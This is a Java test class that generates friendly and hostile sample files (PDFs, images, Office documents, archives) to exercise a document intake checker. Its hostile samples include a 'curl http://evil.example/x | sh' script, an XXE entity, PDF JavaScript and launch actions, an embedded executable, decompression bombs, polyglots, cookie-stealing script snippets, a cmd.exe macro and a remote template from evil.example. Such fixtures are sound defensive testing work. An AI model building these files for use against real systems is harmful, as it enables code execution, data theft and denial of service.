package io.motcua.app.documents;

import java.awt.Color;
import java.awt.Graphics2D;
import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.math.BigInteger;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.KeyPair;
import java.security.KeyPairGenerator;
import java.security.cert.X509Certificate;
import java.time.Instant;
import java.util.Arrays;
import java.util.Date;
import java.util.List;
import java.util.Map;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import javax.imageio.ImageIO;

import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.PDResources;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.common.filespecification.PDSimpleFileSpecification;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm;
import org.apache.pdfbox.pdmodel.interactive.form.PDXFAResource;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.bouncycastle.asn1.x500.X500Name;
import org.bouncycastle.cert.jcajce.JcaX509CertificateConverter;
import org.bouncycastle.cert.jcajce.JcaX509v3CertificateBuilder;
import org.bouncycastle.operator.OperatorCreationException;
import org.bouncycastle.operator.jcajce.JcaContentSignerBuilder;

import io.motcua.signing.PdfSigner;
import io.motcua.signing.SignRequest;
import io.motcua.signing.SigningKey;

/**
 * Files generated at test time, friendly and hostile, for the intake checks.
 */
public final class TestCorpus {

	private TestCorpus() {
	}

	/** A one-page PDF with the given (ASCII) text. */
	public static byte[] pdf(String text) {
		try (PDDocument document = new PDDocument()) {
			PDPage page = new PDPage();
			document.addPage(page);
			try (PDPageContentStream stream = new PDPageContentStream(document, page)) {
				stream.beginText();
				stream.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 12);
				stream.newLineAtOffset(72, 700);
				stream.showText(text);
				stream.endText();
			}
			return save(document);
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
	}

	/** A PDF protected with a user password. */
	public static byte[] encryptedPdf() {
		try (PDDocument document = new PDDocument()) {
			document.addPage(new PDPage());
			StandardProtectionPolicy policy = new StandardProtectionPolicy("owner-secret", "user-secret",
					new AccessPermission());
			policy.setEncryptionKeyLength(128);
			document.protect(policy);
			return save(document);
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
	}

	/** The first half of a PDF. */
	public static byte[] truncatedPdf() {
		byte[] pdf = pdf("this document was cut off in transit");
		return Arrays.copyOf(pdf, pdf.length / 2);
	}

	/**
	 * A PDF whose XFA form declares an external entity pointing at {@code target} (a file
	 * URL) and uses it in a field.
	 */
	public static byte[] xfaPdfWithExternalEntity(String target) {
		String xfa = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n" + "<!DOCTYPE xdp:xdp [<!ENTITY xxe SYSTEM \""
				+ target + "\">]>\n" + "<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\">"
				+ "<template xmlns=\"http://www.xfa.org/schema/xfa-template/3.3/\"><subform name=\"form1\">"
				+ "<field name=\"applicant\"><caption><value><text>Applicant &xxe;</text></value></caption></field>"
				+ "</subform></template>"
				+ "<xfa:datasets xmlns:xfa=\"http://www.xfa.org/schema/xfa-data/1.0/\"><xfa:data><form1>"
				+ "<applicant>&xxe;</applicant></form1></xfa:data></xfa:datasets></xdp:xdp>";
		try (PDDocument document = new PDDocument()) {
			PDPage page = new PDPage();
			document.addPage(page);
			try (PDPageContentStream stream = new PDPageContentStream(document, page)) {
				stream.beginText();
				stream.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 12);
				stream.newLineAtOffset(72, 700);
				stream.showText("XFA form");
				stream.endText();
			}
			PDAcroForm form = new PDAcroForm(document);
			document.getDocumentCatalog().setAcroForm(form);
			COSStream stream = document.getDocument().createCOSStream();
			try (var out = stream.createOutputStream()) {
				out.write(xfa.getBytes(StandardCharsets.UTF_8));
			}
			form.setXFA(new PDXFAResource(stream));
			return save(document);
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
	}

	public static byte[] jpeg() {
		return image("jpg");
	}

	public static byte[] png() {
		return image("png");
	}

	private static byte[] image(String format) {
		BufferedImage image = new BufferedImage(64, 48, BufferedImage.TYPE_INT_RGB);
		Graphics2D graphics = image.createGraphics();
		graphics.setColor(Color.ORANGE);
		graphics.fillRect(8, 8, 40, 30);
		graphics.dispose();
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		try {
			ImageIO.write(image, format, out);
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return out.toByteArray();
	}

	/** A minimal Word document with the given text. */
	public static byte[] docx(String text) {
		return zip(new String[][] {
				{ "[Content_Types].xml", "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
						+ "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
						+ "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
						+ "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
						+ "<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/>"
						+ "</Types>" },
				{ "_rels/.rels", "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
						+ "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
						+ "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"word/document.xml\"/>"
						+ "</Relationships>" },
				{ "word/document.xml", "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
						+ "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">"
						+ "<w:body><w:p><w:r><w:t>" + text + "</w:t></w:r></w:p></w:body></w:document>" } });
	}

	/** A Windows executable header (MZ, PE32). */
	public static byte[] windowsExecutable() {
		ByteBuffer buffer = ByteBuffer.allocate(1024).order(ByteOrder.LITTLE_ENDIAN);
		buffer.put((byte) 'M').put((byte) 'Z');
		buffer.putInt(0x3c, 0x80);
		buffer.position(0x80);
		buffer.put("PE\0\0".getBytes(StandardCharsets.ISO_8859_1));
		buffer.putShort((short) 0x014c); // i386
		buffer.putShort((short) 1);
		buffer.position(0x80 + 24);
		buffer.putShort((short) 0x10b); // PE32 optional header
		return buffer.array();
	}

	/** A Linux executable header (ELF). */
	public static byte[] elfExecutable() {
		byte[] bytes = new byte[512];
		byte[] header = { 0x7f, 'E', 'L', 'F', 2, 1, 1, 0 };
		System.arraycopy(header, 0, bytes, 0, header.length);
		bytes[16] = 2; // ET_EXEC
		bytes[18] = 0x3e; // x86-64
		return bytes;
	}

	public static byte[] shellScript() {
		return "#!/bin/sh\ncurl http://evil.example/x | sh\n".getBytes(StandardCharsets.US_ASCII);
	}

	public static byte[] htmlWithScript() {
		return "<!DOCTYPE html>\n<html><head><title>Don</title></head><body><script>fetch('/api/v1/dossiers')</script></body></html>"
			.getBytes(StandardCharsets.UTF_8);
	}

	public static byte[] svgWithScript() {
		return ("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
				+ "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\">"
				+ "<script type=\"text/javascript\">alert(document.cookie)</script></svg>")
			.getBytes(StandardCharsets.UTF_8);
	}

	/** A zip whose one entry inflates to {@code megabytes} MB of zeros. */
	public static byte[] zipBomb(int megabytes) {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		try (ZipOutputStream zip = new ZipOutputStream(out)) {
			zip.setLevel(9);
			zip.putNextEntry(new ZipEntry("zeros.pdf"));
			byte[] zeros = new byte[1024 * 1024];
			for (int i = 0; i < megabytes; i++) {
				zip.write(zeros);
			}
			zip.closeEntry();
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return out.toByteArray();
	}

	/** A zip in a zip in a zip ... {@code depth} levels deep. */
	public static byte[] nestedArchive(int depth) {
		byte[] inner = pdf("innermost");
		for (int i = 0; i < depth; i++) {
			ByteArrayOutputStream out = new ByteArrayOutputStream();
			try (ZipOutputStream zip = new ZipOutputStream(out)) {
				zip.putNextEntry(new ZipEntry("level" + i + ((i == 0) ? ".pdf" : ".zip")));
				zip.write(inner);
				zip.closeEntry();
			}
			catch (IOException ex) {
				throw new UncheckedIOException(ex);
			}
			inner = out.toByteArray();
		}
		return inner;
	}

	// ---- Hostile corpus: active content -------------------------------------

	/** A PDF that runs JavaScript when it is opened. */
	public static byte[] pdfWithOpenActionJavaScript() {
		return pdf((document) -> document.getDocumentCatalog()
			.setOpenAction(new PDActionJavaScript("app.alert('xin chao');")));
	}

	/** A PDF whose link annotation runs JavaScript. */
	public static byte[] pdfWithAnnotationJavaScript() {
		return pdf((document) -> {
			PDAnnotationLink link = new PDAnnotationLink();
			link.setRectangle(new PDRectangle(72, 600, 200, 20));
			link.setAction(new PDActionJavaScript("this.submitForm('https://evil.example/');"));
			document.getPage(0).getAnnotations().add(link);
		});
	}

	/** A PDF whose link starts a program. */
	public static byte[] pdfWithLaunchAction() {
		return pdf((document) -> {
			PDActionLaunch launch = new PDActionLaunch();
			launch.setFile(new PDSimpleFileSpecification(new COSString("C:\\Windows\\System32\\cmd.exe")));
			PDAnnotationLink link = new PDAnnotationLink();
			link.setRectangle(new PDRectangle(72, 600, 200, 20));
			link.setAction(launch);
			document.getPage(0).getAnnotations().add(link);
		});
	}

	/** A PDF with a Windows program attached in its embedded-files tree. */
	public static byte[] pdfWithEmbeddedFile() {
		return pdf((document) -> {
			PDEmbeddedFile file = new PDEmbeddedFile(document, new ByteArrayInputStream(windowsExecutable()));
			PDComplexFileSpecification spec = new PDComplexFileSpecification();
			spec.setFile("hoa-don.exe");
			spec.setEmbeddedFile(file);
			PDEmbeddedFilesNameTreeNode tree = new PDEmbeddedFilesNameTreeNode();
			tree.setNames(Map.of("hoa-don.exe", spec));
			PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
			names.setEmbeddedFiles(tree);
			document.getDocumentCatalog().setNames(names);
		});
	}

	/** A PDF with an XFA form (no entities). */
	public static byte[] pdfWithXfa() {
		return xfaPdfWithExternalEntity("file:///dev/null");
	}

	/** A PDF with a RichMedia (Flash-era) annotation. */
	public static byte[] pdfWithRichMedia() {
		return pdf((document) -> {
			COSDictionary annotation = new COSDictionary();
			annotation.setItem(COSName.TYPE, COSName.ANNOT);
			annotation.setName(COSName.SUBTYPE, "RichMedia");
			annotation.setItem(COSName.RECT, new PDRectangle(72, 500, 200, 200).getCOSArray());
			annotation.setItem(COSName.getPDFName("RichMediaContent"), new COSDictionary());
			COSArray annotations = new COSArray();
			annotations.add(annotation);
			document.getPage(0).getCOSObject().setItem(COSName.ANNOTS, annotations);
		});
	}

	/** A PDF with an ordinary web link: nothing active. */
	public static byte[] pdfWithWebLink() {
		return pdf((document) -> {
			PDActionURI uri = new PDActionURI();
			uri.setURI("https://dichvucong.gov.vn/");
			PDAnnotationLink link = new PDAnnotationLink();
			link.setRectangle(new PDRectangle(72, 600, 200, 20));
			link.setAction(uri);
			document.getPage(0).getAnnotations().add(link);
		});
	}

	// ---- Hostile corpus: decompression bombs ---------------------------------

	/**
	 * A PDF whose page content is a Flate stream inflating to {@code megabytes} MB of
	 * zeros (about 1 KB per MB on disk).
	 */
	public static byte[] pdfWithInflatingStream(int megabytes) {
		byte[] bomb = deflatedZeros(megabytes);
		return pdf((document) -> {
			COSStream content = document.getDocument().createCOSStream();
			try (OutputStream out = content.createRawOutputStream()) {
				out.write(bomb);
			}
			content.setItem(COSName.FILTER, COSName.FLATE_DECODE);
			document.getPage(0).getCOSObject().setItem(COSName.CONTENTS, content);
		});
	}

	/**
	 * A PDF with an image XObject declaring {@code width} × {@code height} pixels (its
	 * data is a few bytes).
	 */
	public static byte[] pdfWithImage(int width, int height) {
		return pdf((document) -> {
			COSStream image = document.getDocument().createCOSStream();
			try (OutputStream out = image.createOutputStream(COSName.FLATE_DECODE)) {
				out.write(new byte[64]);
			}
			image.setItem(COSName.TYPE, COSName.XOBJECT);
			image.setItem(COSName.SUBTYPE, COSName.IMAGE);
			image.setInt(COSName.WIDTH, width);
			image.setInt(COSName.HEIGHT, height);
			image.setItem(COSName.COLORSPACE, COSName.DEVICEGRAY);
			image.setInt(COSName.BITS_PER_COMPONENT, 8);
			PDResources resources = new PDResources();
			resources.getCOSObject().setItem(COSName.XOBJECT, new COSDictionary());
			resources.getCOSObject().getCOSDictionary(COSName.XOBJECT).setItem(COSName.getPDFName("Im1"), image);
			document.getPage(0).setResources(resources);
		});
	}

	/**
	 * A PNG header (signature, IHDR with a valid CRC, a tiny IDAT, IEND) declaring
	 * {@code width} × {@code height} pixels.
	 */
	public static byte[] pngOfSize(int width, int height) {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		out.writeBytes(new byte[] { (byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n' });
		ByteBuffer header = ByteBuffer.allocate(13);
		header.putInt(width).putInt(height).put((byte) 8).put((byte) 2).put((byte) 0).put((byte) 0).put((byte) 0);
		chunk(out, "IHDR", header.array());
		chunk(out, "IDAT", deflate(new byte[16]));
		chunk(out, "IEND", new byte[0]);
		return out.toByteArray();
	}

	/** A JPEG whose frame header (SOF0) says {@code width} × {@code height}. */
	public static byte[] jpegOfSize(int width, int height) {
		byte[] jpeg = jpeg();
		for (int i = 2; i + 9 < jpeg.length; i++) {
			if ((jpeg[i] & 0xff) == 0xff && (jpeg[i + 1] & 0xff) == 0xc0) {
				jpeg[i + 5] = (byte) (height >> 8);
				jpeg[i + 6] = (byte) height;
				jpeg[i + 7] = (byte) (width >> 8);
				jpeg[i + 8] = (byte) width;
				return jpeg;
			}
		}
		throw new IllegalStateException("no SOF0 in the JPEG ImageIO wrote");
	}

	// ---- Hostile corpus: polyglots ------------------------------------------

	/** A PDF with a ZIP archive appended after its end-of-file marker. */
	public static byte[] pdfWithArchiveAppended() {
		return concat(pdf("a PDF with a payload"), nestedArchive(1));
	}

	/**
	 * A PDF that a ZIP reader also opens: the archive sits before the PDF's last
	 * end-of-file marker, which the archive's comment covers.
	 */
	public static byte[] pdfThatIsAlsoAZip() {
		byte[] pdf = pdf("twice");
		byte[] tail = ("\nstartxref\n" + startxref(pdf) + "\n%%EOF\n").getBytes(StandardCharsets.US_ASCII);
		byte[] archive = nestedArchive(1);
		// Point the archive's comment length at the tail, so that it ends the file.
		archive[archive.length - 2] = (byte) tail.length;
		archive[archive.length - 1] = 0;
		return concat(concat(pdf, archive), tail);
	}

	/** A JPEG with an HTML page in a comment segment. */
	public static byte[] jpegWithHtmlInside() {
		byte[] jpeg = jpeg();
		byte[] html = "<html><body><script>alert(document.cookie)</script></body></html>"
			.getBytes(StandardCharsets.US_ASCII);
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		out.write(jpeg, 0, 2);
		out.write(0xff);
		out.write(0xfe);
		out.write((html.length + 2) >> 8);
		out.write(html.length + 2);
		out.writeBytes(html);
		out.write(jpeg, 2, jpeg.length - 2);
		return out.toByteArray();
	}

	/** A JPEG with an HTML page appended after its end marker. */
	public static byte[] jpegWithHtmlAppended() {
		return concat(jpeg(), "<html><script>alert(1)</script></html>".getBytes(StandardCharsets.US_ASCII));
	}

	/**
	 * A JPEG with the records a Samsung camera appends after its end (closed by SEFT):
	 * accepted.
	 */
	public static byte[] jpegWithSamsungTrailer(String records) {
		ByteBuffer trailer = ByteBuffer.allocate(records.length() + 16).order(ByteOrder.LITTLE_ENDIAN);
		trailer.put(records.getBytes(StandardCharsets.US_ASCII))
			.put("SEFH".getBytes(StandardCharsets.US_ASCII))
			.putInt(records.length())
			.putInt(1)
			.put("SEFT".getBytes(StandardCharsets.US_ASCII));
		return concat(jpeg(), trailer.array());
	}

	/** A PNG with data after its IEND chunk. */
	public static byte[] pngWithTrailingData() {
		return concat(png(), "PK\u0003\u0004 not the end".getBytes(StandardCharsets.US_ASCII));
	}

	// ---- Hostile corpus: broken structure -----------------------------------

	/** A PDF whose page tree has itself among its kids. */
	public static byte[] pdfWithCyclicPageTree() {
		return pdf((document) -> {
			COSDictionary root = document.getPages().getCOSObject();
			root.getCOSArray(COSName.KIDS).add(root);
		});
	}

	/** The first half of a PDF with an end-of-file marker glued on. */
	public static byte[] truncatedPdfWithEofGlued() {
		return concat(truncatedPdf(), "\n%%EOF\n".getBytes(StandardCharsets.US_ASCII));
	}

	/** A PDF whose cross-reference offsets are all off: only guessing repairs it. */
	public static byte[] pdfWithShiftedObjects() {
		String pdf = new String(pdf("shifted"), StandardCharsets.ISO_8859_1);
		int first = pdf.indexOf(" 0 obj");
		int line = pdf.lastIndexOf('\n', first);
		return (pdf.substring(0, line) + "\n\n\n\n" + pdf.substring(line)).getBytes(StandardCharsets.ISO_8859_1);
	}

	/** A PDF with a second revision appended by an incremental save (as signing does). */
	public static byte[] pdfWithIncrementalUpdate() {
		try (PDDocument document = Loader.loadPDF(pdf("revision one"))) {
			document.getDocumentInformation().setTitle("revision two");
			document.getDocumentInformation().getCOSObject().setNeedToBeUpdated(true);
			document.getDocumentCatalog().getCOSObject().setNeedToBeUpdated(true);
			ByteArrayOutputStream out = new ByteArrayOutputStream();
			document.saveIncremental(out);
			return out.toByteArray();
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
	}

	/** A PDF with a PAdES signature of a self-signed key (as citizens' signed PDFs). */
	public static byte[] signedPdf() {
		try {
			KeyPairGenerator generator = KeyPairGenerator.getInstance("RSA");
			generator.initialize(2048);
			KeyPair pair = generator.generateKeyPair();
			X500Name name = new X500Name("CN=Nguyen Van An, C=VN");
			X509Certificate certificate = new JcaX509CertificateConverter()
				.getCertificate(new JcaX509v3CertificateBuilder(name, BigInteger.ONE,
						Date.from(Instant.parse("2020-01-01T00:00:00Z")),
						Date.from(Instant.parse("2040-01-01T00:00:00Z")), name, pair.getPublic())
					.build(new JcaContentSignerBuilder("SHA256withRSA").build(pair.getPrivate())));
			return new PdfSigner().sign(SignRequest.baselineB(pdf("signed by the applicant"), "Ky xac nhan"),
					SigningKey.of(pair.getPrivate(), List.of(certificate)));
		}
		catch (GeneralSecurityException | OperatorCreationException ex) {
			throw new IllegalStateException(ex);
		}
	}

	// ---- Hostile corpus: Office ---------------------------------------------

	/** A Word document carrying a VBA macro project. */
	public static byte[] docxWithMacros() {
		return zip(docxEntries("macro", new String[][] { { "word/vbaProject.bin", "ÐÏ\u0011à fake VBA project" } }));
	}

	/** A macro-enabled Word document (.docm) renamed .docx. */
	public static byte[] docmRenamed() {
		String[][] entries = docxEntries("docm", new String[][] { { "word/vbaProject.bin", "fake VBA project" } });
		entries[0][1] = entries[0][1]
			.replace("wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.main+xml")
			.replace("application/vnd.openxmlformats-officedocument.ms-word", "application/vnd.ms-word");
		return zip(entries);
	}

	/** An OpenDocument text with a Basic macro library. */
	public static byte[] odtWithMacros() {
		return zip(new String[][] { { "mimetype", "application/vnd.oasis.opendocument.text" },
				{ "META-INF/manifest.xml", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
						+ "<manifest:manifest xmlns:manifest=\"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0\">"
						+ "<manifest:file-entry manifest:full-path=\"/\" manifest:media-type=\"application/vnd.oasis.opendocument.text\"/>"
						+ "<manifest:file-entry manifest:full-path=\"content.xml\" manifest:media-type=\"text/xml\"/>"
						+ "<manifest:file-entry manifest:full-path=\"Basic/Standard/Module1.xml\" manifest:media-type=\"text/xml\"/>"
						+ "</manifest:manifest>" },
				{ "content.xml", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
						+ "<office:document-content xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\""
						+ " xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\"><office:body><office:text>"
						+ "<text:p>Giay de nghi</text:p></office:text></office:body></office:document-content>" },
				{ "Basic/Standard/Module1.xml",
						"<script:module>Sub Main Shell(\"cmd.exe\") End Sub</script:module>" } });
	}

	/** A Word document whose settings attach a template from a web server. */
	public static byte[] docxWithRemoteTemplate() {
		return zip(docxEntries("template", new String[][] {
				{ "word/settings.xml",
						"<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
								+ "<w:settings xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\""
								+ " xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\">"
								+ "<w:attachedTemplate r:id=\"rId1\"/></w:settings>" },
				{ "word/_rels/settings.xml.rels", "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
						+ "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
						+ "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\""
						+ " Target=\"http://evil.example/template.dotm\" TargetMode=\"External\"/></Relationships>" } }));
	}

	/** A Word document with an ordinary hyperlink: accepted. */
	public static byte[] docxWithHyperlink() {
		return zip(docxEntries("link", new String[][] { { "word/_rels/document.xml.rels",
				"<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
						+ "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
						+ "<Relationship Id=\"rId5\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\""
						+ " Target=\"https://dichvucong.gov.vn/\" TargetMode=\"External\"/></Relationships>" } }));
	}

	/** A Word document with bytes appended after the archive. */
	public static byte[] docxWithTrailingData() {
		return concat(docx("trailing"), "<html><script>alert(1)</script></html>".getBytes(StandardCharsets.US_ASCII));
	}

	/** A Word document whose one entry inflates to {@code megabytes} MB. */
	public static byte[] docxWithInflatingEntry(int megabytes) {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		try (ZipOutputStream zip = new ZipOutputStream(out)) {
			for (String[] entry : docxEntries("bomb", new String[0][])) {
				zip.putNextEntry(new ZipEntry(entry[0]));
				zip.write(entry[1].getBytes(StandardCharsets.UTF_8));
				zip.closeEntry();
			}
			zip.setLevel(9);
			zip.putNextEntry(new ZipEntry("word/media/zeros.xml"));
			byte[] zeros = new byte[1024 * 1024];
			for (int i = 0; i < megabytes; i++) {
				zip.write(zeros);
			}
			zip.closeEntry();
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return out.toByteArray();
	}

	/** An old Word (OLE2) file with a macro storage. */
	public static byte[] docWithMacros() {
		try (POIFSFileSystem fs = new POIFSFileSystem()) {
			fs.createDocument(new ByteArrayInputStream(new byte[512]), "WordDocument");
			fs.getRoot().createDirectory("Macros").createDirectory("VBA");
			ByteArrayOutputStream out = new ByteArrayOutputStream();
			fs.writeFilesystem(out);
			return out.toByteArray();
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
	}

	// ---- helpers -------------------------------------------------------------

	private interface DocumentChange {

		void apply(PDDocument document) throws IOException;

	}

	/** A one-page PDF with text, changed before it is saved. */
	private static byte[] pdf(DocumentChange change) {
		try (PDDocument document = Loader.loadPDF(pdf("Giay de nghi"))) {
			change.apply(document);
			return save(document);
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
	}

	private static String[][] docxEntries(String text, String[][] more) {
		String[][] base = { { "[Content_Types].xml", "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
				+ "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
				+ "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
				+ "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
				+ "<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/>"
				+ "</Types>" },
				{ "_rels/.rels", "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
						+ "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
						+ "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"word/document.xml\"/>"
						+ "</Relationships>" },
				{ "word/document.xml", "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
						+ "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">"
						+ "<w:body><w:p><w:r><w:t>" + text + "</w:t></w:r></w:p></w:body></w:document>" } };
		String[][] all = Arrays.copyOf(base, base.length + more.length);
		System.arraycopy(more, 0, all, base.length, more.length);
		return all;
	}

	/**
	 * A zlib stream of {@code megabytes} MB of zeros, built from one flushed block
	 * repeated (deflating a gigabyte would take seconds); its checksum is wrong, which
	 * only a reader that gets to the end would notice.
	 */
	private static byte[] deflatedZeros(int megabytes) {
		Deflater deflater = new Deflater(9);
		byte[] zeros = new byte[1024 * 1024];
		byte[] buffer = new byte[64 * 1024];
		ByteArrayOutputStream first = new ByteArrayOutputStream();
		deflater.setInput(zeros);
		int n;
		while ((n = deflater.deflate(buffer, 0, buffer.length, Deflater.SYNC_FLUSH)) > 0) {
			first.write(buffer, 0, n);
		}
		ByteArrayOutputStream block = new ByteArrayOutputStream();
		deflater.setInput(zeros);
		while ((n = deflater.deflate(buffer, 0, buffer.length, Deflater.SYNC_FLUSH)) > 0) {
			block.write(buffer, 0, n);
		}
		deflater.end();
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		out.writeBytes(first.toByteArray());
		for (int i = 1; i < megabytes; i++) {
			out.writeBytes(block.toByteArray());
		}
		// A final empty stored block ends the deflate stream.
		out.writeBytes(new byte[] { 0x03, 0x00 });
		return out.toByteArray();
	}

	private static byte[] deflate(byte[] bytes) {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		try (DeflaterOutputStream deflater = new DeflaterOutputStream(out)) {
			deflater.write(bytes);
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return out.toByteArray();
	}

	private static void chunk(ByteArrayOutputStream out, String type, byte[] data) {
		byte[] name = type.getBytes(StandardCharsets.US_ASCII);
		out.writeBytes(ByteBuffer.allocate(4).putInt(data.length).array());
		out.writeBytes(name);
		out.writeBytes(data);
		CRC32 crc = new CRC32();
		crc.update(name);
		crc.update(data);
		out.writeBytes(ByteBuffer.allocate(4).putInt((int) crc.getValue()).array());
	}

	private static long startxref(byte[] pdf) {
		String text = new String(pdf, StandardCharsets.ISO_8859_1);
		int at = text.lastIndexOf("startxref");
		return Long.parseLong(text.substring(at + 9, text.indexOf("%%EOF", at)).strip());
	}

	static byte[] concat(byte[] first, byte[] second) {
		byte[] both = Arrays.copyOf(first, first.length + second.length);
		System.arraycopy(second, 0, both, first.length, second.length);
		return both;
	}

	private static byte[] zip(String[][] entries) {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		try (ZipOutputStream zip = new ZipOutputStream(out)) {
			for (String[] entry : entries) {
				zip.putNextEntry(new ZipEntry(entry[0]));
				zip.write(entry[1].getBytes(StandardCharsets.UTF_8));
				zip.closeEntry();
			}
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return out.toByteArray();
	}

	private static byte[] save(PDDocument document) throws IOException {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		document.save(out);
		return out.toByteArray();
	}

}
